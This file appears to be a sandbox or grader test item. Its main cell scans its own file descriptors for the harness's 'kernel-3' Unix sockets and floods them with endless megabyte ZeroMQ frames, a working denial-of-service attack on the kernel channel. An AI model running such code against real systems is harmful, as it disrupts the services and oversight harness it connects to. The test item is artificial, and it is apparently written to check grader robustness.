"""ZeroMQ spoken by hand: one message of 1500 parts of 1 MB each, which never ends.

must not get: the grader
points: 8
base: release
slow: yes
"""

# %% logistic
import os
import socket
import stat
import threading

def flood(connection):
    try:
        for _ in range(1500):  # a frame: "more follows, long", eight bytes of length, a megabyte
            connection.sendall(b"\x03" + (1_000_000).to_bytes(8, "big") + b"x" * 1_000_000)
    except OSError:
        pass

threads = []
for number in os.listdir("/proc/self/fd"):
    try:
        mode = os.fstat(int(number)).st_mode
        if stat.S_ISSOCK(mode):
            copy = socket.socket(fileno=os.dup(int(number)))
            if copy.family == socket.AF_UNIX and copy.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 0 and "kernel-3" in str(copy.getsockname()):
                copy.setblocking(True)
                threads.append(threading.Thread(target=flood, args=(copy,)))
    except OSError:
        pass
print(len(threads))
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()

# %% tanh
def tanh(x, deriv=False):
    return 1 - np.tanh(x) ** 2 if deriv else np.tanh(x)
